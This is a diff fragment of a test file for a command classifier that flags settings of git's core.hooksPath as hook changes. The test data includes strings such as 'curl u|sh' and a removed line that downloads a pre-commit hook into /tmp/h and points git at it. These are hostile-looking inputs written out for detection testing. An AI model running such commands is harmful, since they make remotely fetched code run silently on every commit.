@@ -248,7 +248,6 @@ def test_direnv_allow_of_an_everyday_or_unknown_envrc_passes(command: str) -> No
     "GIT_CONFIG_PARAMETERS=\"'core.hooksPath'='/tmp/h'\" git commit -m x",
     # The value is a directory name, not a command line: still a hook setting, not code.
     "git config core.hooksPath 'curl u|sh'",
-    "mkdir -p /tmp/h && curl -o /tmp/h/pre-commit u && git config core.hooksPath /tmp/h",
 ])
 def test_setting_core_hooks_path_warns_as_a_git_hook(command: str) -> None:
     result = classify(command)
